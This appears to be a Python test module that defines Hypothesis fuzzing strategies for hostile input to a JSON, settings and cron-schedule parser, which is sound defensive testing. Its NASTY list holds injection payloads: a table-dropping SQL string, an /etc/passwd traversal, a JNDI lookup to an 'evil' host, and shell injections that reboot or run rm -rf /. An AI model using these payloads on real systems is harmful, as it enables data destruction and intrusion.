"""Hostile input: texts, JSON, and documents with something wrong in them."""

from __future__ import annotations

import copy
import json
from typing import TYPE_CHECKING, Any

from hypothesis import strategies as st

if TYPE_CHECKING:
    from collections.abc import Mapping

NASTY = (
    "",
    " ",
    "-",
    "--TableName",
    "'",
    '"',
    "`",
    "\\",
    "'; DROP TABLE snapshots; --",
    '" OR ""="',
    "*/ SELECT 1 /*",
    "../../etc/passwd",
    "a/../../b",
    "${jndi:ldap://evil/x}",
    "${TableName}",
    "{{view}}",
    "{view}",
    "$(reboot)",
    "`reboot`",
    "| rm -rf /",
    "line\nbreak",
    "\r\n",
    "tab\tstop",
    "null\0byte",
    "\u2028\u2029",
    "\ud800",
    "\x85",
    "ﬁ\u0130\u0131ß",
    "a" * 255,
    "é" * 255,
    "=" * 20,
    ",",
    '"unclosed',
    "1e999",
    "-0",
    "NaN",
    "Infinity",
    "1_000",
    "٣",
    "²",
    "9" * 400,
    "2026-1-1T1:1",
    "0000-00-00T00:00",
    "9999-12-31T23:59",
    "cron(* * * * ? *)",
    "cron(0 10 * * ? * *)",
    "cron(0/0 10 * * ? *)",
    "cron(0 10 31 2 ? *)",
    "cron(0 10 ? * 1#9 *)",
)

texts = st.sampled_from(NASTY) | st.text(max_size=40)
scalars = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.integers(min_value=10**300, max_value=10**300 + 9)
    | st.floats()
    | texts
)
values = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(texts, inner, max_size=4),
    max_leaves=12,
)
documents = st.dictionaries(texts, values, max_size=5)


@st.composite
def damaged(draw: st.DrawFn, whole: Any) -> Any:
    """A document like ``whole``, with one to three places replaced or removed."""
    mutated = copy.deepcopy(whole)
    for _ in range(draw(st.integers(1, 3))):
        place = mutated
        while True:
            keys = list(place) if isinstance(place, dict) else list(range(len(place)))
            if not keys:
                break
            key = draw(st.sampled_from(keys))
            inner = place[key]
            if isinstance(inner, dict | list) and inner and draw(st.booleans()):
                place = inner
                continue
            if isinstance(place, dict) and draw(st.booleans()):
                del place[key]
            else:
                place[key] = draw(values)
            break
    return mutated


def as_json(what: st.SearchStrategy[Any]) -> st.SearchStrategy[bytes]:
    """The text of a document, sometimes cut or no text at all."""

    def dump(value: Any) -> bytes:
        return json.dumps(value).encode()

    whole = what.map(dump)
    cut = st.tuples(whole, st.integers(0, 40)).map(lambda pair: pair[0][: pair[1]])
    return (
        whole
        | cut
        | st.binary(max_size=60)
        | texts.map(lambda text: text.encode(errors="surrogatepass"))
    )


def texts_of(names: Mapping[str, str]) -> st.SearchStrategy[dict[str, str]]:
    """The settings, some of them replaced."""
    replaced = st.dictionaries(st.sampled_from(sorted(names)), texts, min_size=1, max_size=3)
    return replaced.map(lambda some: {**names, **some})
